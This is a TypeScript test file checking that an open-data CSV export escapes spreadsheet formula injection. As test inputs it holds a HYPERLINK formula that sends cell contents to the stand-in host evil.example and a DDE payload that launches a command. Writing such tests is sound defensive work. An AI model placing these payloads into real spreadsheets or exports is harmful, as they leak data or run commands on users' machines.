import { parse } from "csv-parse/sync";
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { emptyFields } from "#src/domain/case-studies.ts";
import { renderOpenData } from "#src/publishing/open-data.ts";
import { publicationOf, sectionOf } from "#test/helpers/publication.ts";

// Every CSV file of the open-data zip carries text written by members: none may reach a
// spreadsheet as a formula (OWASP CSV injection).

const ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
const md = `Text.\n\n::recommendation{ref=r1}`;

const pub = publicationOf({
  caseStudies: [{ slug: "cs", organization: "@Org", technologies: [], fields: { ...emptyFields("en"), title: ATTACK, summary: "-1+2" } }],
  recommendations: { r1: { text: "+cmd|' /C calc'!A0", retired: false } },
  chapters: [{ title: "\tChapter", slug: "chapter", sections: [sectionOf(ATTACK, "s", md)] }],
});

describe("open-data CSV files", () => {
  it("neutralize every cell that would start a formula", () => {
    const files = unzipSync(new Uint8Array(renderOpenData(pub)));
    for (const name of ["sections.csv", "case-studies.csv", "recommendations.csv"]) {
      const cells = parse(strFromU8(files[name]!), { bom: true }).flat();
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c)), name).toEqual([]);
      expect(cells.filter((c) => c.startsWith("'")).length, name).toBeGreaterThan(0);
    }
    expect(strFromU8(files["sections.csv"]!)).toContain(`'=HYPERLINK(""http://evil.example/?""&A1,""Click"")`);
    expect(strFromU8(files["case-studies.csv"]!)).toContain(",'@Org,");
    expect(strFromU8(files["recommendations.csv"]!)).toContain(`r1,'+cmd|' /C calc'!A0,no,1.1`);
    // The JSON keeps the words as written.
    expect(JSON.parse(strFromU8(files["edition.json"]!)).chapters[0].sections[0].heading).toBe(ATTACK);
  });
});
